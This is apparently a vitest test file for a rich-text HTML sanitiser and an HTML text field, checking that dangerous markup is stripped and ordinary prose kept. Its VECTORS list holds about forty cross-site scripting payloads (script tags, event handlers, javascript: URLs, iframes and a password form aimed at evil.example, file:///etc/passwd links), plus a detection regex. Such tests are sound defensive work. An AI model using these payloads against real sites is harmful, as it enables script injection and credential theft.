import { describe, expect, it } from 'vitest'
import { compileField } from './compile-field.ts'
import type { Field } from './fields.schema.ts'
import { sanitizeRichText } from './rich-text.ts'

/** After sanitising none of these may be left, however they were written. */
const DANGEROUS =
  /<\s*(?:script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|video|audio|template|noscript)|\son\w+\s*=|javascript:|vbscript:|data:|srcdoc|style=/i

// After OWASP's Cross Site Scripting Prevention and XSS Filter Evasion cheat sheets, and DOMPurify's tests.
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" onerror="alert(1)" onload=alert(1)>',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav\u0000ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></p><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '"><img src=x onerror=alert(1)>',
  '<a href="//evil.example">x</a>',
  '<img src="//evil.example/x.png">',
  '<a href="storage:../../etc/passwd">x</a>',
  '<a href="file:///etc/passwd">x</a>',
]

describe('rich text', () => {
  it.each(VECTORS)('takes the sting out of %s', (vector) => {
    const clean = sanitizeRichText(`<p>before</p>${vector}<p>after</p>`)
    expect(clean).not.toMatch(DANGEROUS)
    expect(clean).not.toMatch(/evil\.example|file:|storage:\.\./)
    expect(clean).toContain('before')
    expect(sanitizeRichText(clean)).toBe(clean)
  })

  it('keeps what prose is made of, unchanged', () => {
    const prose = [
      '<h2>Title</h2><p>One <strong>two</strong> <em>three</em> <code>four</code> &amp; five<br />six</p>',
      '<ul><li><p>a</p></li></ul><ol start="3"><li><p>b</p></li></ol><blockquote><p>c</p></blockquote><hr />',
      '<pre><code class="language-js">if (a &lt; b) {}</code></pre>',
      '<table><tbody><tr><th colspan="2">x</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>',
      '<p><a href="https://example.com/?a=1&amp;b=2">x</a> <a href="mailto:ann@example.com">y</a></p>',
      '<p><a href="storage:docs/price list.pdf">z</a><img src="storage:photos/cat.png" alt="A cat" /></p>',
    ].join('')
    expect(sanitizeRichText(prose)).toBe(prose)
  })

  it('is empty when nothing can be seen of it', () => {
    expect(sanitizeRichText('<p></p>')).toBe('')
    expect(sanitizeRichText('<p> <br></p><script>x</script>')).toBe('')
    expect(sanitizeRichText('<p><img src="storage:a.png"></p>')).not.toBe('')
  })

  it('drops attributes of people: class, style, id, name', () => {
    expect(sanitizeRichText('<p id="login" name="x" class="fixed" style="color:red">a</p>')).toBe('<p>a</p>')
  })

  it('stays upright under text that is nested ten thousand times', () => {
    const deep = sanitizeRichText('<blockquote>'.repeat(10_000) + 'x')
    expect(deep).toContain('x')
    expect(deep.match(/<blockquote>/g)!.length).toBeLessThanOrEqual(101)
  })
})

describe('a text field of the format html', () => {
  const check = (field: Partial<Field>, value: unknown) =>
    compileField({ key: 'body', type: 'text', format: 'html', ...field }).check(value, {
      nowMs: 0,
      creating: true,
    })

  it('stores sanitised HTML, its default too', () => {
    expect(check({}, '<p onclick=x()>a</p><script>b</script>')).toEqual({ value: '<p>a</p>' })
    expect(check({ default: '<b onclick=x()>a</b>' }, undefined)).toEqual({ value: '<b>a</b>' })
  })

  it('counts what is left, and an empty paragraph is no value', () => {
    expect(check({ maxLength: 8 }, '<p title="long">a</p>')).toEqual({ value: '<p>a</p>' })
    expect(check({ maxLength: 7 }, '<p>a</p>')).toMatchObject({
      errors: { '': { code: 'FIELD_MAX_LENGTH' } },
    })
    expect(check({ required: true }, '<p></p>')).toMatchObject({ errors: { '': { code: 'FIELD_REQUIRED' } } })
  })

  it('refuses more than a million characters before it parses them', () => {
    expect(check({}, '<p>'.repeat(400_000))).toMatchObject({ errors: { '': { code: 'FIELD_MAX_LENGTH' } } })
  })
})
